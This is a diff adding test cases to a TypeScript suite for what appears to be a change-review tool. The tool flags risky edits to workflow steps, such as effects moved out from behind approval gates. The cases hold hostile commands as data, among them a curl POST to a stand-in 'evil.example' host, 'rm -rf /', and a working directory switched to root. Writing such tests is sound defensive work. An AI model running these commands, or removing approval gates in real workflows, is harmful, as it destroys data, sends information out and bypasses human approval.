@@ -100,6 +100,79 @@ it.each<[string, readonly string[], readonly string[], readonly string[]]>([
     [plan, "{ id: say, run: 'echo $plan.json.to' }"],
     ["warning: pastes `$plan.json.to` into the command line of `say`"],
   ],
+  [
+    "a second gate behind which an effect no longer stands",
+    ["{ id: g1, approval: A? }", "{ id: g2, approval: { prompt: B?, required_approver: cfo } }", send],
+    ["{ id: g1, approval: A? }", send, "{ id: g2, approval: { prompt: B?, required_approver: cfo } }"],
+    ["danger: `send` is no longer behind `g2`"],
+  ],
+  [
+    "one of two gates that is gone",
+    ["{ id: g1, approval: A? }", gate, send],
+    [gate, send],
+    ["danger: removes the gate before `send`"],
+  ],
+  [
+    "a second gate before an effect",
+    [gate, send],
+    [gate, "{ id: g2, approval: B? }", send],
+    ["good: adds the gate `g2`", "good: `send` is now always behind `g2`"],
+  ],
+  [
+    "another receiver",
+    ["{ id: e, run: curl -X POST https://good.example/x }"],
+    ["{ id: e, run: curl -X POST https://evil.example/x }"],
+    [
+      "danger: changes something that sends in `e` from `curl -X POST https://good.example/x` to " +
+        "`curl -X POST https://evil.example/x`, not behind any gate",
+    ],
+  ],
+  [
+    "another folder to delete, behind a gate",
+    [gate, "{ id: e, run: rm -rf ./tmp }"],
+    [gate, "{ id: e, run: rm -rf / }"],
+    ["warning: changes a deletion in `e` from `rm -rf ./tmp` to `rm -rf /`, behind an approval"],
+  ],
+  [
+    "a second command with the same words",
+    [gate, "{ id: e, run: curl -X POST https://good.example/x }"],
+    [gate, "{ id: e, run: 'curl -X POST https://good.example/x; curl -X POST https://evil.example/y' }"],
+    ["warning: adds something that sends to `e`: `curl -X POST https://evil.example/y`, behind an approval"],
+  ],
+  [
+    "one of two commands with the same words that is gone",
+    ["{ id: e, run: 'rm a; rm b' }"],
+    ["{ id: e, run: 'rm b' }"],
+    ["info: removes a deletion from `e`: `rm a`"],
+  ],
+  [
+    "a host behind ssh",
+    ["{ id: e, run: ssh one 'rm x' }"],
+    ["{ id: e, run: ssh two 'rm x' }"],
+    [
+      "danger: changes a deletion in `e` from `ssh one 'rm x'` to `ssh two 'rm x'`, not behind any gate",
+      "info: changes a network call in `e` from `ssh one 'rm x'` to `ssh two 'rm x'`",
+    ],
+  ],
+  [
+    "what leads to a command",
+    [gate, "{ id: e, run: 'cd tmp && rm -rf x' }"],
+    [gate, "{ id: e, run: 'cd / && rm -rf x' }"],
+    ["warning: changes the text of `e` around `rm`"],
+  ],
+  [
+    "where a command runs",
+    ["{ id: e, run: rm -rf x, cwd: tmp }"],
+    ["{ id: e, run: rm -rf x, cwd: / }"],
+    ["danger: changes `cwd` of `e`, which does `rm`"],
+  ],
+  [
+    "what is sent",
+    [gate, "{ id: s, run: mail -s a b, stdin: $plan.json }"],
+    [gate, "{ id: s, run: mail -s a b, stdin: $web.json }"],
+    ["warning: changes `stdin` of `s`, which does `mail`"],
+  ],
+  ["nothing for comments in a script", ['{ id: e, run: "rm a\\n# one" }'], ['{ id: e, run: "# two\\nrm a" }'], []],
 ])("tells of %s", (_, before, after, expected) => {
   expect(changes(before, after)).toEqual(expected);
 });
